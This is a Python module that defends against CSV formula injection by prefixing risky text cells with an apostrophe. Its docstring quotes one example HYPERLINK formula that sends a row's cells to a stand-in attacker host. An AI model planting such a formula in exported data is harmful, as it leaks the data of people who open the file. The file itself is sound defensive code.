"""Spreadsheet formulas in CSV text cells, made text (ChunkContext.neutralise_formulas).

A spreadsheet opening a CSV runs a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?x="&A2,"open")` sends the row's cells away when
clicked), and one starting with a tab or carriage return may be read so after trimming.
OWASP's advice: such a cell starts with `'`, which spreadsheets show as text. Only text
columns: a number (`-5`) is no formula, and a struct or list is written as JSON, which
starts with `{` or `[`."""

from __future__ import annotations

from typing import Final

import polars as pl

#: What a cell may start with for a spreadsheet to read it as a formula.
_FORMULA_START: Final = r"^([=+\-@\t\r])"


def formulas_as_text(batch: pl.DataFrame) -> pl.DataFrame:
    """`batch` with every text cell a spreadsheet would read as a formula prefixed `'`."""
    text = [name for name, dtype in batch.schema.items() if _is_text(dtype)]
    if not text:
        return batch
    return batch.with_columns(
        pl.col(name).cast(pl.String).str.replace(_FORMULA_START, "'$1") for name in text
    )


def _is_text(dtype: pl.DataType) -> bool:
    return dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))
